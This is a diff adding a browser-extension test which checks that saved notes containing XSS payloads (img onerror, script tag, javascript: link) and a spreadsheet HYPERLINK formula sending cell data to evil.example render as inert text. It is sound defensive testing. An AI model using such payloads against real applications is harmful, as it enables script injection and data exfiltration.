@@ -3,7 +3,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { readDb } from './db';
+import { readDb, sendFromPage } from './db';
 import { EXTENSION_DIR, extensionPage, launchDuban, noticeSeed, openNotice, serveHtml, serveSeeds, type Duban } from './harness';
 import { reveal, saved } from './overlay-helpers';
 import { shadowFocus } from './shadow';
@@ -83,6 +83,44 @@ describe('a hostile page script on the official notice', () => {
     const runtime = await page.evaluate(() => typeof (globalThis as any).chrome?.runtime?.sendMessage);
     expect(runtime).toBe('undefined');
     await page.close();
+  });
+});
+
+describe('notes carrying markup, links and formulas', () => {
+  const PAYLOADS = [
+    '<img src=x onerror="window.__pwned=1">',
+    '<script>window.__pwned=1</script>',
+    '<a href="javascript:window.__pwned=1">点我 click</a>',
+    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+  ];
+
+  it('stay text in the overview and its details', async () => {
+    const duban = await launchDuban();
+    try {
+      const page = await extensionPage(duban.context, duban.extensionId, 'popup.html');
+      for (const [i, note] of PAYLOADS.entries()) {
+        const r = await sendFromPage(page, 'saveAnnotation', { noticeKey: '拱政办发〔2024〕2号', itemNo: i + 1, fingerprint: 'f', note, status: 'in_progress' });
+        expect(r.ok).toBe(true);
+      }
+      const overview = await extensionPage(duban.context, duban.extensionId, 'overview.html');
+      await overview.waitForFunction(() => performance.getEntriesByName('duban-overview-complete').length > 0);
+      const rows = overview.locator('table.overview tbody tr[data-item]');
+      expect(await rows.count()).toBe(PAYLOADS.length);
+      const shown = await rows.allTextContents();
+      for (const note of PAYLOADS) expect(shown.some((t) => t.includes(note.slice(0, 30)))).toBe(true);
+      await rows.nth(2).click();
+      await overview.keyboard.press('Enter');
+      await overview.locator('textarea').first().waitFor();
+      const found = await overview.evaluate(() => ({
+        imgs: document.querySelectorAll('main img, table img').length,
+        scripts: [...document.scripts].filter((s) => s.textContent?.includes('__pwned')).length,
+        jsLinks: document.querySelectorAll('a[href^="javascript:"]').length,
+        pwned: (window as any).__pwned,
+      }));
+      expect(found).toEqual({ imgs: 0, scripts: 0, jsLinks: 0, pwned: undefined });
+    } finally {
+      await duban.close();
+    }
   });
 });
 
